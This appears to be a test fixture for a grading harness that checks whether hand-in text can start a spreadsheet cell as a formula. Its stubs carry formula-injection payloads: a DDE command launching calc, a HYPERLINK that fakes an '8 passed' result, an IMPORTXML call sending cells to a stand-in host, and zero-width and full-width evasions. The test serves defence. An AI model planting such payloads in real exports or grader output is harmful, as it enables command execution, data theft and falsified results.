# group: deny
# after: right
# expect: add=failed mean=failed softmax=failed identity=failed data=refused plus=failed backward=failed *=passed
# correct: let no text of a hand-in begin a cell of a table as a formula.


def named(name):
    return type(name, (ValueError,), {})


def add(a, b):
    raise ValueError("=cmd|' /C calc'!A0")


def mean(values):
    raise named('=HYPERLINK("http://x";"8 passed")')("@SUM(1+1)*cmd|' /C calc'!A0")


def softmax(x):
    raise named("+1+1")("-2+3\t=1+1\r=1+1\n=1+1")


def identity(x):
    return "\t=IMPORTXML(CONCAT(\"http://x/?\",A1:A9),\"//a\")" if type(x) is str else x


class Tensor(Tensor):
    def __init__(self, data, parts=()):
        super().__init__(data, parts)
        if type(data) is list and data == [2.5, -3.0]:
            self.data = named("=1+1")()

    def __add__(self, other):
        raise named("\u200b=1+1")("\uff1d1+1")  # a full-width sign, which some read as one
